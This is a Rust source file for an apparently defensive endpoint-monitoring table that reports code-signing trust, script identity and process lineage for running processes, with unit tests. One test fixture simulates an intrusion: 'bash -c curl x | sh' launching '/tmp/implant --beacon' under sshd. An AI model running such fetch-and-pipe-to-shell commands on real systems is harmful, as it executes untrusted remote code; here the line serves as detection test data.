//! `process_code_signature`: one row per running process — who signed what it runs,
//! and, for interpreters, the script behind it.

use super::{
    bigint, indexed, integer, text, Column, QueryContext, Row, TableDef, TableError, Value,
};
use crate::model::Pid;
use crate::platform::{self, Host};
use crate::subject::{self, ProcessVerdict};
use std::collections::HashMap;
use std::sync::Arc;

pub const NAME: &str = "process_code_signature";

pub static COLUMNS: &[Column] = &[
    indexed(integer("pid", "Process id (INDEX: `pid =` and `pid IN (…)` read only those processes)")),
    integer("parent", "Parent process id"),
    text("path", "Executable path"),
    text("cmdline", "argv joined by spaces"),
    bigint("uid", "Real user id"),
    text("parent_path", "Parent's executable path"),
    integer("signed", "1 if the executable carries any signature or package provenance (ad-hoc included)"),
    text("trust", "apple, app_store, developer_id, package, adhoc, unsigned, invalid or unknown (see error)"),
    integer("trusted", "1 iff trust is apple, app_store, developer_id or package"),
    text("identifier", "Signing identifier (Linux: owning package name)"),
    text("team_identifier", "Team identifier (empty on Linux)"),
    text("authority", "Leaf certificate common name (Linux: dpkg or rpm)"),
    text("cdhash", "Code directory hash (macOS; empty on Linux)"),
    integer("notarized", "1 if notarized, 0 if not, -1 unknown or not applicable (Linux)"),
    integer("platform_binary", "1 if an Apple platform binary, 0 if not, -1 on Linux"),
    text("flags", "Kernel code-signing flags as hex (macOS; empty on Linux)"),
    text("sha256", "SHA-256 of the executable (always filled when trusted = 0, unless too large: see error)"),
    text("interpreter", "Interpreter name (python, perl, ruby, sh, bash, zsh, node, osascript, php, tclsh, pwsh…) or empty"),
    text("script_kind", "file, inline, stdin, module, interactive, or empty for non-interpreters"),
    text("script_path", "Script file run by the interpreter (absolute)"),
    text("script_sha256", "SHA-256 of the script file, or of the inline code text"),
    text("script_trust", "Trust verdict of the script itself (inline code: unsigned; stdin: unknown)"),
    integer("script_quarantined", "1 if the script carries com.apple.quarantine (macOS; 0 on Linux)"),
    text("subject_kind", "binary or script: what AN1256 judges"),
    text("subject_path", "The executable, or the script for interpreters"),
    integer("subject_trusted", "Trust of the subject (an Apple-signed python running /tmp/x.py is 0)"),
    text("subject_identity", "Stable baseline key: team:<TEAMID>:<id>, apple:<id>, package:<pkg>:<path>, sha256:<hex>, inline:<interpreter>:<sha256>"),
    text("cwd", "Current working directory"),
    bigint("start_time", "Process start time, Unix seconds"),
    text("username", "Name of the real uid"),
    text("parent_cmdline", "Parent's argv joined by spaces"),
    integer("grandparent", "Grandparent process id (0 when unknown)"),
    text("grandparent_path", "Grandparent's executable path"),
    text("grandparent_cmdline", "Grandparent's argv joined by spaces"),
    integer("responsible_pid", "Process macOS holds responsible (the app behind a helper or script; 0 when itself or not applicable, as on Linux)"),
    text("responsible_path", "Executable of the responsible process"),
    text("script_origin", "Who downloaded the script: the com.apple.quarantine agent (macOS; empty on Linux)"),
    text("error", "Why a field could not be filled (permission, vanished, too large…)"),
];

pub struct ProcessCodeSignature {
    host: Arc<dyn Host>,
}

impl ProcessCodeSignature {
    pub fn new(host: Arc<dyn Host>) -> Self {
        ProcessCodeSignature { host }
    }
}

/// Who started the process: parent and grandparent, for triage from one row.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Lineage {
    pub parent_path: String,
    pub parent_cmdline: String,
    pub grandparent: Pid,
    pub grandparent_path: String,
    pub grandparent_cmdline: String,
    /// macOS responsible process (0 when the process is responsible for itself).
    pub responsible_pid: Pid,
    pub responsible_path: String,
}

/// Builds one row from a verdict (no I/O).
pub fn build_row(v: &ProcessVerdict, lineage: &Lineage, username: &str) -> Row {
    let p = &v.process;
    let id = &v.identity;
    let (script_path, script_sha, script_trust) = match &v.script {
        None => (String::new(), String::new(), ""),
        Some(s) => {
            let (sha, trust) = match (&v.script_identity, s.kind) {
                (Some(si), _) => (si.sha256.clone(), si.trust.as_str()),
                (None, crate::script::ScriptKind::Inline) => (s.inline_sha256.clone(), "unsigned"),
                (None, crate::script::ScriptKind::Module) => (String::new(), id.trust.as_str()),
                (None, crate::script::ScriptKind::Interactive) => (String::new(), ""),
                (None, _) => (String::new(), "unknown"),
            };
            (s.script_path.clone(), sha, trust)
        }
    };
    let mut errors: Vec<&str> = Vec::new();
    for e in [&p.error, &id.error] {
        if !e.is_empty() {
            errors.push(e);
        }
    }
    let script_error = v
        .script_identity
        .as_ref()
        .map(|s| format!("script: {}", s.error));
    if let Some(e) = script_error
        .as_deref()
        .filter(|e| e.len() > "script: ".len())
    {
        errors.push(e);
    }
    let subject_error = format!("subject: {}", v.subject.error);
    if !v.subject.error.is_empty() {
        errors.push(&subject_error);
    }
    vec![
        p.pid.into(),
        p.parent.into(),
        p.path.as_str().into(),
        p.argv.join(" ").into(),
        p.uid.into(),
        lineage.parent_path.as_str().into(),
        id.signed.into(),
        id.trust.as_str().into(),
        id.trust.is_trusted().into(),
        id.identifier.as_str().into(),
        id.team_identifier.as_str().into(),
        id.authority.as_str().into(),
        id.cdhash.as_str().into(),
        id.notarized.into(),
        id.platform_binary.into(),
        id.flags.as_str().into(),
        id.sha256.as_str().into(),
        v.interpreter().into(),
        v.script_kind().into(),
        script_path.into(),
        script_sha.into(),
        script_trust.into(),
        v.script_quarantined().into(),
        v.subject.kind.into(),
        v.subject.path.as_str().into(),
        v.subject.trusted.into(),
        v.subject.identity.as_str().into(),
        p.cwd.as_str().into(),
        p.start_time.into(),
        username.into(),
        lineage.parent_cmdline.as_str().into(),
        lineage.grandparent.into(),
        lineage.grandparent_path.as_str().into(),
        lineage.grandparent_cmdline.as_str().into(),
        lineage.responsible_pid.into(),
        lineage.responsible_path.as_str().into(),
        v.script_identity
            .as_ref()
            .map(|s| s.quarantine_agent.as_str())
            .unwrap_or_default()
            .into(),
        Value::Text(errors.join("; ")),
    ]
}

impl TableDef for ProcessCodeSignature {
    fn name(&self) -> &'static str {
        NAME
    }

    fn description(&self) -> &'static str {
        "One row per running process: the code-trust verdict of its executable and, for interpreters, of the script it runs; `subject_*` is what AN1256 judges."
    }

    fn columns(&self) -> &'static [Column] {
        COLUMNS
    }

    fn generate(&self, ctx: &QueryContext) -> Result<Vec<Row>, TableError> {
        let pids: Option<Vec<Pid>> = ctx.equal_integers("pid").map(|list| {
            list.into_iter()
                .filter_map(|p| Pid::try_from(p).ok())
                .collect()
        });
        let processes = platform::read_processes(self.host.as_ref(), pids.as_deref())
            .map_err(|e| TableError::Failed(e.to_string()))?;
        // Full scans know every ancestor already; point lookups read the two they need.
        let mut known: HashMap<Pid, (Pid, String, String)> = if pids.is_none() {
            processes
                .iter()
                .map(|p| (p.pid, (p.parent, p.path.clone(), p.argv.join(" "))))
                .collect()
        } else {
            HashMap::new()
        };
        let mut ancestor = |pid: Pid| -> (Pid, String, String) {
            if pid <= 0 {
                return (0, String::new(), String::new());
            }
            known
                .entry(pid)
                .or_insert_with(|| match self.host.process(pid) {
                    Ok(p) => (p.parent, p.path, p.argv.join(" ")),
                    Err(_) => (0, String::new(), String::new()),
                })
                .clone()
        };
        let mut users: HashMap<i64, String> = HashMap::new();
        let mut rows = Vec::with_capacity(processes.len());
        let deadline = match pids {
            Some(_) => crate::deadline::Deadline::NONE,
            None => ctx.deadline,
        };
        for process in processes {
            if deadline.expired() {
                break;
            }
            let (grandparent, parent_path, parent_cmdline) = ancestor(process.parent);
            let (_, grandparent_path, grandparent_cmdline) = ancestor(grandparent);
            let responsible_pid = self
                .host
                .responsible_pid(process.pid)
                .filter(|r| *r != process.pid)
                .unwrap_or(0);
            let (_, responsible_path, _) = ancestor(responsible_pid);
            let lineage = Lineage {
                parent_path,
                parent_cmdline,
                grandparent,
                grandparent_path,
                grandparent_cmdline,
                responsible_pid,
                responsible_path,
            };
            let username = users
                .entry(process.uid)
                .or_insert_with(|| self.host.user_name(process.uid).unwrap_or_default())
                .clone();
            let verdict = subject::evaluate(self.host.as_ref(), process);
            rows.push(build_row(&verdict, &lineage, &username));
        }
        Ok(rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::ProcessInfo;
    use crate::platform::FakeHost;
    use crate::tables::column_index;

    fn process(pid: Pid, parent: Pid, argv: &[&str]) -> ProcessInfo {
        ProcessInfo {
            pid,
            parent,
            path: argv[0].into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
            uid: 0,
            ..Default::default()
        }
    }

    fn cell(row: &Row, name: &str) -> Value {
        row[column_index(COLUMNS, name).unwrap()].clone()
    }

    #[test]
    fn rows_carry_parent_and_grandparent_context_for_lookups_and_scans() {
        let host = Arc::new(FakeHost {
            processes: vec![
                process(1, 0, &["/sbin/init"]),
                process(10, 1, &["/usr/bin/sshd", "-D"]),
                process(20, 10, &["/bin/bash", "-c", "curl x | sh"]),
                process(30, 20, &["/tmp/implant", "--beacon"]),
            ],
            responsible: [(30, 10)].into_iter().collect(),
            ..Default::default()
        });
        let table = ProcessCodeSignature::new(host.clone());
        let by_pid = table
            .generate(&QueryContext::new().with_equals("pid", "30"))
            .unwrap();
        let full = table.generate(&QueryContext::new()).unwrap();
        let from_scan = full
            .iter()
            .find(|r| cell(r, "pid") == Value::Int(30))
            .unwrap();
        for row in [&by_pid[0], from_scan] {
            assert_eq!(cell(row, "parent_path"), Value::from("/bin/bash"));
            assert_eq!(
                cell(row, "parent_cmdline"),
                Value::from("/bin/bash -c curl x | sh")
            );
            assert_eq!(cell(row, "grandparent"), Value::Int(10));
            assert_eq!(cell(row, "grandparent_path"), Value::from("/usr/bin/sshd"));
            assert_eq!(
                cell(row, "grandparent_cmdline"),
                Value::from("/usr/bin/sshd -D")
            );
            assert_eq!(cell(row, "cmdline"), Value::from("/tmp/implant --beacon"));
            assert_eq!(cell(row, "trust"), Value::from("unsigned"));
            assert_eq!(cell(row, "subject_kind"), Value::from("binary"));
            assert_eq!(cell(row, "responsible_pid"), Value::Int(10));
            assert_eq!(cell(row, "responsible_path"), Value::from("/usr/bin/sshd"));
        }
        // uid 0 is root in every passwd file.
        assert_eq!(cell(&by_pid[0], "username"), Value::from("root"));
        assert_eq!(full.len(), 4);
        // init has no parent: empty lineage, no lookup of pid 0.
        let init = full
            .iter()
            .find(|r| cell(r, "pid") == Value::Int(1))
            .unwrap();
        assert_eq!(cell(init, "parent_path"), Value::from(""));
        assert!(!host.process_calls.lock().unwrap().contains(&0));
    }

    #[test]
    fn vanished_pids_are_skipped_not_errors() {
        let table = ProcessCodeSignature::new(Arc::new(FakeHost::default()));
        let rows = table
            .generate(&QueryContext::new().with_equals("pid", "4242"))
            .unwrap();
        assert!(rows.is_empty());
    }
}
